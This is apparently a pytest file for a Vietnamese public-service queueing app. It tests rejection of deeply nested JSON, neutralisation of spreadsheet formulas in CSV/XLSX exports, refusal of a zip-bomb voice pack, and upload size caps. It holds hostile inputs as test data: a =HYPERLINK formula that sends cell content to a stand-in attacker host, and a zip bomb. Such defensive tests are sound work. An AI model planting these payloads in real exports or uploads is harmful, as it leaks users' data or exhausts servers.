"""Inputs that used to break things: deeply nested JSON (a 500), a field named
like a formula (a live =HYPERLINK in a manager's spreadsheet)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
from sqlalchemy import select

from motcua.core.models import Service
from motcua.services import app_services
from tests.admin.day import DAY, build_day
from tests.admin.pages import add_person, csrf, sign_in_admin
from tests.conftest import bearer, staff_token

FORMULA = '=HYPERLINK("http://ke-gian.example/?"&A1,"Bấm vào đây")'


def test_deeply_nested_json_is_a_400(client, api_world):
    body = "[" * 30_000 + "]" * 30_000
    for path in ("/api/v1/auth/token", "/api/v1/offices/demo/tickets"):
        response = client.post(
            path,
            data=body,
            content_type="application/json",
            headers=bearer(api_world.kiosk_token),
        )
        assert response.status_code == 400, path
        assert response.get_json()["error"]["code"] == "bad_json"


def test_exports_carry_no_live_formula(app, client, api_world, clock):
    db = app_services(app).db
    build_day(db, api_world, clock)
    with db.transaction() as session:
        service = session.scalars(select(Service).where(Service.code == "CT")).one()
        service.name_vi = FORMULA
    add_person(db, clock, "ql", "demo", "manager")
    headers = bearer(staff_token(client, "ql"))
    url = f"/api/v1/offices/demo/reports/daily?date={DAY}"
    text = client.get(url + "&format=csv", headers=headers).get_data(as_text=True)
    names = [row[2] for row in csv.reader(io.StringIO(text))]
    assert "'" + FORMULA in names and FORMULA not in names
    data = client.get(url + "&format=xlsx", headers=headers).data
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [
        v for row in book["Theo lĩnh vực"].iter_rows(values_only=True) for v in row
    ]
    assert "'" + FORMULA in cells
    assert not any(isinstance(v, str) and v.startswith("=") for v in cells)


def test_a_zip_bomb_voice_pack_is_refused_before_unpacking(
    app, client, api_world, clock
):
    sign_in_admin(app, clock, client)
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("index.json", "{}")
        with archive.open("0.wav", "w", force_zip64=True) as member:
            for _ in range(100):
                member.write(bytes(1024 * 1024))  # 100 MB of silence, ~100 KB packed
    assert len(packed.getvalue()) < 1024 * 1024
    path = "/admin/o/demo/voice"
    form = {
        "csrf_token": csrf(client, path),
        "file": (io.BytesIO(packed.getvalue()), "g.zip"),
    }
    page = client.post(path, data=form, content_type="multipart/form-data")
    assert "giải nén quá lớn" in page.get_data(as_text=True)
    voice = Path(app.instance_path) / "voice"
    written = sum(p.stat().st_size for p in voice.rglob("*") if p.is_file())
    assert written < 1024 * 1024


def test_csv_uploads_up_to_their_documented_size_pass_the_body_cap(
    app, client, api_world, clock
):
    """The API's 64 KB body cap does not cut the admin's CSV imports (2 MB)."""
    sign_in_admin(app, clock, client)
    padding = b"\n" * 300_000  # blank lines: a big file, still two rows
    procedures = (
        "linh_vuc,ten_thu_tuc,giay_to,le_phi,thoi_gian\n"
        'CT,Chứng thực di chúc,"Dự thảo di chúc",Miễn phí,Trong ngày\n'
    ).encode()
    page = "/admin/o/demo/procedures"
    form = {"csrf_token": csrf(client, page), "action": "import"}
    form["file"] = (io.BytesIO(procedures + padding), "thutuc.csv")
    answer = client.post(page, data=form)
    assert answer.status_code == 200
    assert "Đã nhập 1 dòng" in answer.get_data(as_text=True)
    dossier_rows = b"code,status\n000.00.01.H29-251120-0001,received\n"
    page = "/admin/o/demo/dossiers"
    form = {"csrf_token": csrf(client, page)}
    form["file"] = (io.BytesIO(dossier_rows + padding), "hoso.csv")
    answer = client.post(page, data=form)
    assert answer.status_code == 200
    assert "Đã nhập 1 hồ sơ." in answer.get_data(as_text=True)
    too_big = {"csrf_token": csrf(client, page)}
    too_big["file"] = (io.BytesIO(dossier_rows + b"\n" * 2_200_000), "hoso.csv")
    assert client.post(page, data=too_big).status_code == 413
